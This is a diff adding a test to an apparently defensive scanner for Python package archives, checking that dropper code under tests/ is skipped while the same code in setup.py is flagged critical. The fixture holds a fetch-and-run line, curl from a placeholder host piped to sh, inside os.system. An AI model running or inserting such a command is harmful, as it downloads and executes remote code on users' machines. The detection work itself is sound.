@@ -206,3 +206,11 @@ def test_random_bytes_never_crash(tmp_path: Path, blob: bytes, suffix: str) -> N
     path.write_bytes(blob)
     scan = scan_archive(path)
     assert isinstance(scan.files_scanned, int) and scan.bytes_scanned <= len(blob) * 2000 + 10_000
+
+
+def test_code_under_tests_is_weighed_down_and_not_parsed(tmp_path: Path) -> None:
+    dropper = "import os\nos.system('curl https://example.invalid/x | sh')\n"
+    scan = scan_archive(make_wheel(tmp_path, {"demo/__init__.py": "", "demo/tests/test_x.py": dropper}))
+    assert scan.files_scanned == 1 and not scan.findings
+    setup = scan_archive(make_sdist(tmp_path / "s", {"setup.py": dropper, "tests/helper.py": dropper}))
+    assert severity(setup, "shell-dropper-command") is Severity.CRITICAL  # setup.py itself is never skipped
